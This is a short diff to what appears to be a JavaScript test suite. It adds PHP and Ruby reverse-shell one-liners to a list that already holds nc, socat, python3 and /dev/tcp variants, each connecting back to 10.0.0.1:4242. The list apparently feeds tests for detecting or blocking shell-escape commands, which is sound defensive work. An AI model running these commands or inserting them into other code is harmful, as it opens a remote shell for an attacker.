@@ -308,6 +308,8 @@ describe('other ways out', () => {
     'nc -l -p 1 -e /bin/sh',
     'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f',
     'socat TCP:10.0.0.1:1 EXEC:/bin/sh',
+    'php -r \'$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3");\'',
+    'ruby -rsocket -e \'c=TCPSocket.new("10.0.0.1",4242);exec "/bin/sh -i <&3"\'',
     'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
     'exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done; sh <&5 >&5',
   ])
